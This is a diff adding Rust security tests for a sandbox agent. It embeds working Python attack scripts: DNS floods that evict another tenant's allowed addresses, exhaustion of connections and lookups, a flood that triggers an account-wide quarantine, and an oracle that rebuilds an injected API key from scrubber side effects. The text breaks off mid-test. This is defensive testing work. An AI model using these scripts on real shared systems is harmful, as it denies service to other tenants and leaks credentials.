@@ -1,0 +1,1062 @@
+//! A third attack review, run as the process inside the sandbox: each test performs one
+//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
+//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
+//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
+//! it fails against the current agent.
+//!
+//! Angle: cross-tenant denial through what the node's sandboxes share — the policy's
+//! share of the allow maps, the policy's share of upstream lookups.
+
+use std::{
+    io::{BufRead as _, BufReader},
+    process::{Child, Command, Stdio},
+    thread,
+    time::Duration,
+};
+
+use hb_tests::{PythonServer, TcpProbe, TestEnv, agent_bin, private_netns, python, stdout};
+use serde_json::Value;
+
+const DNS_PORT: u16 = 5431;
+
+/// The agent's resolver forwards to the test's DNS server; policy `web` allows every
+/// name under `wild.test`; `203.0.113.0/24` and the benchmark net `198.18.0.0/15` are
+/// exceptions to the deny ranges (test addresses standing for public ones).
+fn config(extra_dns: &str) -> String {
+    format!(
+        r#"
+[dns]
+listen = "127.0.0.1:5330"
+redirect = true
+upstreams = ["127.0.0.1:{DNS_PORT}"]
+min_ttl_secs = 5
+max_ttl_secs = 3600
+{extra_dns}
+
+[egress]
+exception_cidrs = ["203.0.113.0/24", "198.18.0.0/15"]
+
+[[policy]]
+name = "web"
+guard = false
+allow_domains = ["*.wild.test"]
+"#
+    )
+}
+
+/// A DNS server (Python, UDP) on 127.0.0.1:[`DNS_PORT`]:
+/// - `victim.wild.test` → 203.0.113.10, TTL 300 (a name a legitimate sandbox uses);
+/// - `n<N>.wild.test` → 16 addresses of its own in 198.18.0.0/15, TTL 3600 (the
+///   attacker's names: each distinct, as a CDN's or object store's zone gives);
+/// - names under `hold.wild.test` are never answered (a slow or unreachable zone);
+/// - any other name → 203.0.113.12, TTL 60.
+fn upstream() -> PythonServer {
+    PythonServer::start(&format!(
+        r#"
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", {DNS_PORT}))
+def rr(ip, ttl):
+    return b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, ttl, 4) + socket.inet_aton(ip)
+while True:
+    q, a = s.recvfrom(512)
+    end = 12
+    while q[end] != 0: end += q[end] + 1
+    labels = []; i = 12
+    while q[i]: labels.append(q[i + 1:i + 1 + q[i]].decode().lower()); i += 1 + q[i]
+    name = ".".join(labels)
+    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
+    if name.endswith(".hold.wild.test"): continue
+    if qtype != 1:
+        rrs = []
+    elif name == "victim.wild.test":
+        rrs = [rr("203.0.113.10", 300)]
+    elif labels[0].startswith("n") and labels[0][1:].isdigit():
+        n = int(labels[0][1:])
+        rrs = [rr("198.%d.%d.%d" % (18 + ((n * 16 + j) >> 16), ((n * 16 + j) >> 8) & 255, (n * 16 + j) & 255), 3600) for j in range(16)]
+    else:
+        rrs = [rr("203.0.113.12", 60)]
+    s.sendto(q[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, len(rrs), 0, 0) + q[12:end + 5] + b"".join(rrs), a)
+"#
+    ))
+}
+
+/// Python for a sandbox: A queries for `n<first>.wild.test` … `n<last-1>.wild.test`, one
+/// after the other over UDP to a documentation nameserver (redirected to the resolver);
+/// prints `asked N answered M addresses K`.
+const PY_MANY_NAMES: &str = r#"
+import socket, struct, sys
+first, last = int(sys.argv[1]), int(sys.argv[2])
+def q(name, i):
+    h = struct.pack("!HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
+    return h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(3)
+c.connect(("192.0.2.53", 53))
+asked = answered = addrs = 0
+for n in range(first, last):
+    c.send(q("n%d.wild.test" % n, n)); asked += 1
+    try:
+        d = c.recv(1500)
+    except OSError:
+        continue
+    if d[3] & 15 == 0:
+        answered += 1; addrs += struct.unpack("!H", d[6:8])[0]
+print("asked", asked, "answered", answered, "addresses", addrs, flush=True)
+"#;
+
+/// Python for a sandbox: resolves `argv[1]` (A, one UDP query) and prints the address.
+const PY_RESOLVE: &str = r#"
+import socket, struct, sys
+name = sys.argv[1]
+h = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+m = h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(8)
+c.connect(("192.0.2.53", 53)); c.send(m)
+try:
+    d = c.recv(512)
+    print(name, "rcode", d[3] & 15, socket.inet_ntoa(d[-4:]) if d[7] else "-", flush=True)
+except OSError as e:
+    print(name, "lost", e, flush=True)
+"#;
+
+/// Allow-map rows of `policy` (`maps dump allow4`).
+fn allow_rows(env: &TestEnv) -> Vec<Value> {
+    env.hb_json(&["maps", "dump", "allow4"])
+        .as_array()
+        .expect("rows")
+        .clone()
+}
+
+fn run_in(env: &TestEnv, args: &[&str]) -> String {
+    let mut full = vec!["sandbox", "run", "--policy", "web", "--user", "65534", "--"];
+    full.extend_from_slice(args);
+    let out = env.hb(&full);
+    assert!(
+        out.status.success(),
+        "sandbox: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    stdout(&out)
+}
+
+/// 1(a) The attack: a victim sandbox of policy `web` resolves `victim.wild.test`
+/// (203.0.113.10, TTL 300) and connects. Another sandbox of the same policy then
+/// resolves ~1,100 distinct names under the allowed zone, 16 addresses each (about
+/// 17,600: past the policy's default share of the allow maps, 16,384), each with a
+/// longer TTL. The policy at its share drops its soonest-expiring addresses, and the
+/// victim's was learned first with the shortest TTL: well within its TTL the victim's
+/// connect to the address it was just told is refused (EPERM), and stays refused while
+/// the attacker keeps asking. A sandbox that did nothing loses service.
+#[test]
+#[ignore = "open: one sandbox evicts its policy's other sandboxes' validated addresses \
+            (max_ips_per_policy is per policy, eviction soonest-expiring, no per-cgroup share)"]
+fn resolving_many_names_does_not_evict_another_sandboxs_validated_address() {
+    hb_tests::require_root();
+    private_netns(&["192.0.2.53", "203.0.113.10"]);
+    let _dns = upstream();
+    let probe = TcpProbe::bind("203.0.113.10:8080");
+    let mut env = TestEnv::new("evict", &config(""));
+    env.start_agent();
+
+    let said = run_in(&env, &[python(), "-c", PY_RESOLVE, "victim.wild.test"]);
+    assert!(
+        said.contains("victim.wild.test rcode 0 203.0.113.10"),
+        "{said}"
+    );
+    let before = hb_tests::sandbox_probe(&env, "web", "tcp", "203.0.113.10", 8080);
+    assert_eq!(before, "OK", "the victim connects to its validated address");
+
+    let flood = run_in(&env, &[python(), "-c", PY_MANY_NAMES, "0", "1100"]);
+    let rows = allow_rows(&env);
+    let victim_row = rows.iter().any(|r| r["addr"] == "203.0.113.10");
+    let after = hb_tests::sandbox_probe(&env, "web", "tcp", "203.0.113.10", 8080);
+    // Resolving again does not help for long: with the policy at its share, the next
+    // name any sandbox of the policy resolves drops the soonest-expiring address again.
+    let again = run_in(
+        &env,
+        &[
+            python(),
+            "-c",
+            &format!(
+                "{PY_RESOLVE_MANY}\nimport errno\ntry:\n    socket.create_connection(('203.0.113.10', 8080), timeout=3); print('connect OK')\nexcept OSError as e:\n    print('connect', errno.errorcode.get(e.errno, e.errno))"
+            ),
+            "victim.wild.test",
+            "other.wild.test",
+        ],
+    );
+    println!(
+        "attacker: {} | allow4 rows: {} | victim's address still allowed: {victim_row} | \
+         victim's connect within its TTL: {after} | resolve victim, then another name, \
+         then connect: {:?}",
+        flood.trim(),
+        rows.len(),
+        again.trim()
+    );
+    assert!(
+        flood.contains("answered 1100"),
+        "the attacker's names were all answered: {flood}"
+    );
+    assert_eq!(
+        after,
+        "OK",
+        "the victim's connect to the address it resolved (TTL 300) was refused after \
+         another sandbox of its policy resolved many names (attacker: {})",
+        flood.trim()
+    );
+    assert!(
+        probe.wait_accepted(2) >= 2,
+        "both connects reached the listener"
+    );
+}
+
+/// A sandbox's UDP DNS attack loop (as in `resolver.rs`): for `argv[1]` seconds, a query
+/// for a fresh name `r<i>.<argv[2]>` every `argv[3]` seconds from one unconnected
+/// socket; prints `flooding` at the start and `sent N servfail S` at the end.
+const PY_UDP_FLOOD: &str = r#"
+import socket, struct, sys, time
+def q(name, i):
+    h = struct.pack("!HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
+    return h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
+end = time.time() + float(sys.argv[1]); pause = float(sys.argv[3])
+sent = servfail = 0
+print("flooding", flush=True)
+while time.time() < end:
+    s.sendto(q("r%d.%s" % (sent, sys.argv[2]), sent), ("192.0.2.53", 53)); sent += 1
+    time.sleep(pause)
+    while True:
+        try:
+            d = s.recv(512)
+        except OSError:
+            break
+        servfail += (d[3] & 15) == 2
+print("sent", sent, "servfail", servfail, flush=True)
+"#;
+
+/// A flooding sandbox, killed on drop.
+struct Flooder(Child, BufReader<std::process::ChildStdout>);
+
+impl Drop for Flooder {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn flooder(env: &TestEnv, seconds: &str) -> Flooder {
+    let mut child = Command::new(agent_bin())
+        .arg("--config")
+        .arg(&env.config_path)
+        .args(["sandbox", "run", "--policy", "web", "--user", "65534", "--"])
+        .args([
+            python(),
+            "-c",
+            PY_UDP_FLOOD,
+            seconds,
+            "hold.wild.test",
+            "0.002",
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("sandbox run");
+    let mut out = BufReader::new(child.stdout.take().expect("stdout"));
+    let mut line = String::new();
+    out.read_line(&mut line).expect("flooder output");
+    assert_eq!(line.trim(), "flooding", "flooder: {line:?}");
+    Flooder(child, out)
+}
+
+/// 1(b) The attack: four sandboxes of policy `web` each ask for a fresh name under a
+/// zone whose server never answers, every 2 ms. Each is held to its own share of
+/// upstream lookups (64, a quarter of the policy's 256), but four shares are the
+/// policy's whole share: a fifth sandbox of the policy, which asks for three ordinary
+/// names once, must still get them answered.
+#[test]
+#[ignore = "open: four sandboxes at their per-cgroup share of upstream lookups fill the \
+            policy's share; a fifth sandbox's lookups get SERVFAIL (dns_policy_busy)"]
+fn four_flooding_sandboxes_leave_a_fifths_lookups_answered() {
+    hb_tests::require_root();
+    private_netns(&["192.0.2.53"]);
+    let _dns = upstream();
+    let mut env = TestEnv::new("fourfill", &config(""));
+    env.start_agent();
+
+    let mut flooders: Vec<Flooder> = (0..4).map(|_| flooder(&env, "8")).collect();
+    thread::sleep(Duration::from_millis(1500));
+    let said = run_in(
+        &env,
+        &[
+            python(),
+            "-c",
+            PY_RESOLVE_MANY,
+            "v1.wild.test",
+            "v2.wild.test",
+            "v3.wild.test",
+        ],
+    );
+    let mut lines = Vec::new();
+    for f in &mut flooders {
+        let mut line = String::new();
+        let _ = f.1.read_line(&mut line);
+        lines.push(line.trim().to_owned());
+    }
+    let busy = env
+        .hb(&["events", "--json"])
+        .stdout
+        .split(|b| *b == b'\n')
+        .filter_map(|l| serde_json::from_slice::<Value>(l).ok())
+        .filter(|e| e["reason"] == "dns_policy_busy")
+        .count();
+    println!("victim: {said:?} | flooders: {lines:?} | dns_policy_busy events: {busy}");
+    for name in ["v1.wild.test", "v2.wild.test", "v3.wild.test"] {
+        assert!(
+            said.contains(&format!("{name} rcode 0 203.0.113.12")),
+            "a sandbox that asked for three names once lost them to four others' floods \
+             (dns_policy_busy events: {busy}): {said}"
+        );
+    }
+}
+
+/// [`PY_RESOLVE`] for each name in `argv[1:]`.
+const PY_RESOLVE_MANY: &str = r#"
+import socket, struct, sys
+for i, name in enumerate(sys.argv[1:]):
+    h = struct.pack("!HHHHHH", i + 1, 0x0100, 1, 0, 0, 0)
+    m = h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(8)
+    c.connect(("192.0.2.53", 53)); c.send(m)
+    try:
+        d = c.recv(512)
+        print(name, "rcode", d[3] & 15, socket.inet_ntoa(d[-4:]) if d[7] else "-", flush=True)
+    except OSError as e:
+        print(name, "lost", e, flush=True)
+"#;
+
+const BROKER_DNS_PORT: u16 = 5432;
+const KEY: &str = "key-acct-5e4d3c2b1a09f8e7d6c5b4a39281706f";
+
+/// Python for a sandbox, with the broker client: `hb`, `SOCK`, `code(f)` (the status,
+/// or the broker's error code).
+fn broker_script(env: &TestEnv, body: &str) -> String {
+    let prelude = hb_tests::py_client_prelude();
+    format!(
+        r#"import sys, json, threading, time
+from collections import Counter
+{prelude}from hb_client import Client, BrokerError
+SOCK = {sock:?}
+hb = Client(SOCK)
+def code(f):
+    try:
+        return f()["status"]
+    except BrokerError as e:
+        return e.code
+{body}"#,
+        sock = env.broker_socket().display().to_string(),
+    )
+}
+
+/// A flooder: from the wall-clock second in `argv[1]` (all flooders start together),
+/// for 6 s, GETs through its own handle from two connections as fast as it can; prints
+/// the answers counted.
+const BROKER_FLOOD: &str = r#"
+h = hb.handle("svc", "bot")["handle"]
+time.sleep(max(0, float(sys.argv[1]) - time.time()))
+got = []
+def worker():
+    c = Client(SOCK)
+    stop = time.time() + 6
+    while time.time() < stop:
+        got.append(code(lambda: c.request("GET", "https://api.test/plain?step=flood", handle=h)))
+threads = [threading.Thread(target=worker) for _ in range(2)]
+for t in threads: t.start()
+for t in threads: t.join()
+print(json.dumps(dict(Counter(str(x) for x in got))), flush=True)
+"#;
+
+/// The victim: one POST through its own handle.
+const BROKER_VICTIM: &str = r#"
+h = hb.handle("svc", "bot")["handle"]
+print(json.dumps({"post": code(lambda: hb.request("POST", "https://api.test/plain?step=victim", handle=h, body="x"))}), flush=True)
+"#;
+
+/// 1(c) The attack: three sandboxes flood the same account at once, each alone past
+/// `spike_hard_cap`. The spike cannot be pinned on at most two callers, so the detector
+/// holds the whole account, every caller together: a sandbox of another policy (another
+/// tenant) that only ever made one write is refused (`policy_denied`, quarantined) for
+/// `quarantine_secs`. The secure outcome: the flooders are held, the bystander's write
+/// goes through.
+#[test]
+#[ignore = "open: a flood spread over 3 sandboxes makes the rate_spike quarantine hold the \
+            whole account, so another tenant's writes are refused for quarantine_secs"]
+fn a_flood_spread_over_three_sandboxes_does_not_hold_an_innocent_tenant() {
+    use hb_tests::provider::{Provider, agent_env, bearers};
+    hb_tests::require_root();
+    let p = Provider::start("spread", BROKER_DNS_PORT, None);
+    let config = format!(
+        r#"{head}
+[[integration]]
+name = "svc"
+auth = "bearer"
+hosts = ["api.test"]
+methods = ["GET", "POST"]
+verify_url = "https://api.test/plain?step=verify"
+
+[integration.rotation]
+exec = ["{python}", "{rotator}", "{keys}"]
+sensor_bucket_secs = 1
+spike_hard_cap = 8
+spike_buckets = 2
+spike_learning_secs = 3600
+
+[[policy]]
+name = "web"
+integrations = ["svc"]
+
+[[policy]]
+name = "ops"
+integrations = ["svc"]
+"#,
+        head = p.config_head(""),
+        python = python(),
+        rotator = p.exec_rotator().display(),
+        keys = p.key_store("keys.json", &[KEY]).display(),
+    );
+    let mut env = agent_env("spread", &config);
+    env.vault_put("svc", "bot", KEY);
+    env.start_agent();
+
+    let flood = broker_script(&env, BROKER_FLOOD);
+    let start = (std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .expect("clock")
+        .as_secs()
+        + 8)
+    .to_string();
+    let flooders: Vec<Child> = (0..3)
+        .map(|_| {
+            Command::new(agent_bin())
+                .arg("--config")
+                .arg(&env.config_path)
+                .args(["sandbox", "run", "--policy", "web", "--user", "65534", "--"])
+                .args([python(), "-c", &flood, &start])
+                .stdin(Stdio::null())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::inherit())
+                .spawn()
+                .expect("sandbox run")
+        })
+        .collect();
+    let floods: Vec<String> = flooders
+        .into_iter()
+        .map(|c| stdout(&c.wait_with_output().expect("flooder")))
+        .collect();
+    let victim = env.hb(&[
+        "sandbox",
+        "run",
+        "--policy",
+        "ops",
+        "--user",
+        "65534",
+        "--",
+        python(),
+        "-c",
+        &broker_script(&env, BROKER_VICTIM),
+    ]);
+    let victim = stdout(&victim);
+    let records: Vec<Value> = std::fs::read_to_string(env.state_dir.join("audit.log"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let actions: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["kind"] == "detector" && r["detector"] == "rate_spike")
+        .collect();
+    let holds: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["kind"] == "detector_action")
+        .collect();
+    println!(
+        "flooders: {floods:?} | victim: {} | rate_spike: {actions:?} | actions: {holds:?}",
+        victim.trim()
+    );
+    assert!(
+        !actions.is_empty(),
+        "the flood was a rate_spike (else this test proves nothing): {floods:?}"
+    );
+    assert!(
+        victim.contains("\"post\": 200"),
+        "a tenant that made one write was held by a quarantine three other sandboxes \
+         raised: {victim} (spike: {actions:?})"
+    );
+    assert_eq!(
+        bearers(&p.api, "victim").len(),
+        1,
+        "the write reached the API"
+    );
+    let _ = std::fs::remove_dir_all(&p.dir);
+}
+
+const ORACLE_KEY: &str = "key-9f3a61c0d2b84e57a1c6f0e3d9b27c48";
+
+/// The oracle attack: knowing only the credential's shape (`key-` and 32 lower-case hex
+/// digits, as a token family's prefix and alphabet are public), the sandbox sends
+/// candidate 8-character runs in the URL of a GET through its handle to an integration
+/// host whose answer echoes the path (`ok GET /path?…`, as a 404 page or any echoing
+/// API does). The scrubber cuts every run of 8 characters of the injected key from the
+/// answer, so which candidates come back cut says which are pieces of the key: the
+/// first window from 65,536 candidates of `key-XXXX`, then one character at a time
+/// from 16. Runs are not a reflection signal, so nothing stops it. Prints the calls it
+/// made and the SHA-256 of what it rebuilt (never the value).
+const PY_ORACLE: &str = r#"
+import hashlib
+h = hb.handle("svc", "bot")["handle"]
+HEX = "0123456789abcdef"
+calls = 0
+def cut(cands):
+    global calls
+    calls += 1
+    r = hb.request("GET", "https://api.test/plain?g=" + "~".join(cands) + "&step=oracle", handle=h)
+    toks = r["body"].split("g=", 1)[1].split("&step=")[0].split("~")
+    return [c for c, t in zip(cands, toks) if t != c]
+first = ["key-" + "%04x" % i for i in range(65536)]
+known = None
+for i in range(0, len(first), 800):
+    hit = cut(first[i:i + 800])
+    if hit:
+        known = hit[0]
+        break
+while known and len(known) < 36:
+    hit = cut([known[-7:] + c for c in HEX])
+    if len(hit) != 1:
+        break
+    known += hit[0][-1]
+print(json.dumps({"calls": calls, "len": len(known or ""),
+                  "sha256": hashlib.sha256((known or "").encode()).hexdigest()}), flush=True)
+"#;
+
+/// Angle 2, reflection as an oracle: the secure outcome is that the sandbox cannot
+/// rebuild the credential from which of its guesses the scrubber cuts.
+#[test]
+#[ignore = "open: the run scrubber (scrub/fragments.rs) is an oracle: guesses echoed back \
+            cut or uncut rebuild the injected key in ~40 calls, with no signal"]
+fn which_guesses_the_scrubber_cuts_does_not_rebuild_the_key() {
+    use hb_tests::provider::{Provider, agent_env, bearers};
+    hb_tests::require_root();
+    let p = Provider::start("oracle", BROKER_DNS_PORT, None);
+    let config = format!(
+        r#"{head}
+[[integration]]
+name = "svc"
+auth = "bearer"
+hosts = ["api.test"]
+methods = ["GET"]
+
+[[policy]]
+name = "web"
+integrations = ["svc"]
+"#,
+        head = p.config_head(""),
+    );
+    let mut env = agent_env("oracle", &config);
+    env.vault_put("svc", "bot", ORACLE_KEY);
+    env.start_agent();
+    let out = env.hb(&[
+        "sandbox",
+        "run",
+        "--policy",
+        "web",
+        "--user",
+        "65534",
+        "--",
+        python(),
+        "-c",
+        &broker_script(&env, PY_ORACLE),
+    ]);
+    let said = stdout(&out);
+    let got: Value = serde_json::from_str(said.trim()).unwrap_or_else(|_| {
+        panic!(
+            "attacker output: {said} {}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    let sent = bearers(&p.api, "oracle");
+    assert!(
+        !sent.is_empty() && sent.iter().all(|b| b == ORACLE_KEY),
+        "the calls carried the key (else this proves nothing)"
+    );
+    let rebuilt = got["sha256"] == sha256_hex(ORACLE_KEY);
+    let records = std::fs::read_to_string(env.state_dir.join("audit.log")).unwrap_or_default();
+    let signalled = records.contains("\"reflection\"");
+    println!(
+        "attacker calls: {} | rebuilt length: {} | rebuilt the key: {rebuilt} | reflection signalled: {signalled}",
+        got["calls"], got["len"]
+    );
+    assert!(
+        !rebuilt,
+        "the sandbox rebuilt the injected key from which guesses the scrubber cut, in {} \
+         calls (reflection signalled: {signalled})",
+        got["calls"]
+    );
+    let _ = std::fs::remove_dir_all(&p.dir);
+}
+
+/// SHA-256 of `value` in hex (Python's hashlib; the value goes on stdin, never in argv).
+fn sha256_hex(value: &str) -> String {
+    use std::io::Write as _;
+    let mut child = Command::new(python())
+        .args([
+            "-c",
+            "import hashlib, sys; print(hashlib.sha256(sys.stdin.buffer.read()).hexdigest())",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("python3");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(value.as_bytes())
+        .expect("write");
+    stdout(&child.wait_with_output().expect("python3"))
+        .trim()
+        .to_owned()
+}
+
+/// A plain-HTTP upstream on 203.0.113.10:80: a request for `/hold` is read and never
+/// answered (the connection stays open, as a slow API or a long poll); any other gets
+/// 200 `served` and the connection closes.
+fn holding_http() -> PythonServer {
+    PythonServer::start(
+        r#"
+import socket, threading
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("203.0.113.10", 80)); s.listen(4096)
+held = []
+def serve(c):
+    d = b""
+    while b"\r\n\r\n" not in d:
+        x = c.recv(4096)
+        if not x: return
+        d += x
+    if d.startswith(b"GET /hold"):
+        held.append(c); return
+    c.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nserved"); c.close()
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+"#,
+    )
+}
+
+/// Python for a sandbox: resolves `victim.wild.test`, opens `argv[1]` connections to it
+/// on port 80, each sending `GET /hold` (never answered), prints `holding N` and keeps
+/// them for `argv[2]` seconds.
+const PY_HOLD_GUARD: &str = r#"
+import socket, sys, time
+socket.getaddrinfo("victim.wild.test", 80)
+socks = []
+for _ in range(int(sys.argv[1])):
+    try:
+        c = socket.create_connection(("203.0.113.10", 80), timeout=3)
+        c.sendall(b"GET /hold HTTP/1.1\r\nHost: victim.wild.test\r\n\r\n")
+        socks.append(c)
+    except OSError:
+        pass
+print("holding", len(socks), flush=True)
+time.sleep(float(sys.argv[2]))
+"#;
+
+/// Python for a sandbox: one plain-HTTP GET to `victim.wild.test`; prints the answer's
+/// body or the error.
+const PY_GET: &str = r#"
+import socket
+try:
+    socket.getaddrinfo("victim.wild.test", 80)
+    c = socket.create_connection(("203.0.113.10", 80), timeout=5)
+    c.sendall(b"GET /served HTTP/1.1\r\nHost: victim.wild.test\r\n\r\n")
+    d = b""
+    while True:
+        x = c.recv(4096)
+        if not x: break
+        d += x
+    print("answer", d.split(b"\r\n\r\n", 1)[-1].decode() or "(closed empty)", flush=True)
+except OSError as e:
+    print("error", e, flush=True)
+"#;
+
+/// 1(b) again, on the guard: four sandboxes of a guarded policy each hold their share
+/// of guarded connections (256, a quarter of `guard.max_connections_per_policy`) open
+/// to an allowed name; a fifth sandbox of the policy, which makes one plain GET to the
+/// same allowed name, must still be served.
+#[test]
+#[ignore = "open: four sandboxes at their per-cgroup share of guarded connections fill the \
+            policy's share; a fifth sandbox's connect is refused (guard_busy)"]
+fn four_sandboxes_holding_guarded_connections_leave_a_fifth_served() {
+    hb_tests::require_root();
+    private_netns(&["192.0.2.53", "203.0.113.10"]);
+    let _dns = upstream();
+    let _http = holding_http();
+    let cfg = config("").replace("guard = false\n", "");
+    let rc = std::env::temp_dir().join(format!("hb-guardfill-{}.conf", std::process::id()));
+    std::fs::write(&rc, "nameserver 192.0.2.53\n").expect("resolv.conf");
+    let rc_path = rc.to_str().expect("UTF-8").to_owned();
+    let mut env = TestEnv::new("guardfill", &cfg);
+    env.start_agent();
+    let sandbox_cmd = |args: &[&str]| {
+        let mut c = Command::new(agent_bin());
+        c.arg("--config")
+            .arg(&env.config_path)
+            .args(["sandbox", "run", "--policy", "web", "--user", "65534"])
+            .args(["--ro-bind", &rc_path, "/etc/resolv.conf", "--"])
+            .args(args);
+        c
+    };
+
+    let before = stdout(
+        &sandbox_cmd(&[python(), "-c", PY_GET])
+            .output()
+            .expect("victim"),
+    );
+    assert!(
+        before.contains("answer served"),
+        "the GET is served when nobody holds connections: {before}"
+    );
+    let mut holders: Vec<Flooder> = (0..4)
+        .map(|_| {
+            let mut child = sandbox_cmd(&[python(), "-c", PY_HOLD_GUARD, "256", "20"])
+                .stdin(Stdio::null())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::inherit())
+                .spawn()
+                .expect("sandbox run");
+            let out = BufReader::new(child.stdout.take().expect("stdout"));
+            Flooder(child, out)
+        })
+        .collect();
+    let mut held = Vec::new();
+    for h in &mut holders {
+        let mut line = String::new();
+        let _ = h.1.read_line(&mut line);
+        held.push(line.trim().to_owned());
+    }
+    let victim = sandbox_cmd(&[python(), "-c", PY_GET])
+        .output()
+        .expect("victim");
+    let victim = stdout(&victim);
+    drop(holders);
+    let _ = std::fs::remove_file(&rc);
+    let busy = env
+        .hb(&["events", "--json"])
+        .stdout
+        .split(|b| *b == b'\n')
+        .filter_map(|l| serde_json::from_slice::<Value>(l).ok())
+        .filter(|e| e["reason"] == "guard_busy")
+        .count();
+    println!(
+        "holders: {held:?} | victim: {} | guard_busy events: {busy}",
+        victim.trim()
+    );
+    assert!(
+        held.iter().all(|h| h.starts_with("holding ")),
+        "the holders ran: {held:?}"
+    );
+    assert!(
+        victim.contains("answer served"),
+        "a sandbox that made one GET was refused while four others held the policy's \
+         guarded connections (guard_busy events: {busy}): {victim}"
+    );
+}
+
+/// Python for a sandbox: opens `argv[2]` connections to the broker at `argv[1]` and
+/// keeps each busy with a `GET /v1/whoami` every 3 s for `argv[3]` seconds (never idle,
+/// never slow); prints `holding N answered M` once all are open and asked once.
+const PY_HOLD_BROKER: &str = r#"
+import socket, sys, time
+path, n, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+REQ = b"GET /v1/whoami HTTP/1.1\r\nHost: hb\r\n\r\n"
+socks = []
+for _ in range(n):
+    try:
+        s = socket.socket(socket.AF_UNIX); s.connect(path); s.settimeout(5); socks.append(s)
+    except OSError:
+        pass
+def ask(s):
+    try:
+        s.sendall(REQ); return s.recv(65536).startswith(b"HTTP/1.1 200")
+    except OSError:
+        return False
+ok = sum(ask(s) for s in socks)
+print("holding", len(socks), "answered", ok, flush=True)
+end = time.time() + secs
+while time.time() < end:
+    time.sleep(3)
+    for s in socks: ask(s)
+"#;
+
+/// Python for a sandbox: one `GET /v1/whoami` on the broker at `argv[1]`, waiting at
+/// most 10 s; prints the status line or the error.
+const PY_WHOAMI: &str = r#"
+import socket, sys
+try:
+    s = socket.socket(socket.AF_UNIX); s.settimeout(10); s.connect(sys.argv[1])
+    s.sendall(b"GET /v1/whoami HTTP/1.1\r\nHost: hb\r\nConnection: close\r\n\r\n")
+    print("answer", s.recv(65536).split(b"\r\n")[0].decode(), flush=True)
+except OSError as e:
+    print("error", e, flush=True)
+"#;
+
+/// 1(c) again, across policies: the broker serves `broker.max_connections` (256)
+/// connections at once for the whole node, and each caller may hold
+/// `broker.max_connections_per_caller` (32) of them. Eight sandboxes (of one policy)
+/// each keep their 32 busy; a sandbox of another policy — another tenant, which makes
+/// one call — must still be answered.
+#[test]
+#[ignore = "open: eight sandboxes at max_connections_per_caller hold every broker \
+            connection (max_connections = 8 x 32); another tenant's call is never served"]
+fn eight_sandboxes_holding_broker_connections_leave_another_tenant_served() {
+    hb_tests::require_root();
+    private_netns(&[]);
+    let mut env = TestEnv::new(
+        "brokerfill",
+        r#"
+[broker]
+socket_mode = "0666"
+
+[dns]
+listen = "127.0.0.1:5300"
+
+[[policy]]
+name = "web"
+
+[[policy]]
+name = "ops"
+"#,
+    );
+    env.start_agent();
+    let sock = env.broker_socket().display().to_string();
+    let sandbox = |policy: &str, script: &str, args: &[&str]| {
+        let mut c = Command::new(agent_bin());
+        c.arg("--config")
+            .arg(&env.config_path)
+            .args([
+                "sandbox", "run", "--policy", policy, "--user", "65534", "--",
+            ])
+            .args([python(), "-c", script, &sock])
+            .args(args);
+        c
+    };
+    let before = stdout(&sandbox("ops", PY_WHOAMI, &[]).output().expect("victim"));
+    assert!(
+        before.contains("answer HTTP/1.1 200"),
+        "whoami is answered when nobody holds connections: {before}"
+    );
+    let mut holders: Vec<Flooder> = (0..8)
+        .map(|_| {
+            let mut child = sandbox("web", PY_HOLD_BROKER, &["32", "25"])
+                .stdin(Stdio::null())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::inherit())
+                .spawn()
+                .expect("sandbox run");
+            let out = BufReader::new(child.stdout.take().expect("stdout"));
+            Flooder(child, out)
+        })
+        .collect();
+    let mut held = Vec::new();
+    for h in &mut holders {
+        let mut line = String::new();
+        let _ = h.1.read_line(&mut line);
+        held.push(line.trim().to_owned());
+    }
+    let victim = stdout(&sandbox("ops", PY_WHOAMI, &[]).output().expect("victim"));
+    drop(holders);
+    println!(
+        "holders: {held:?} | another tenant's whoami: {}",
+        victim.trim()
+    );
+    assert!(
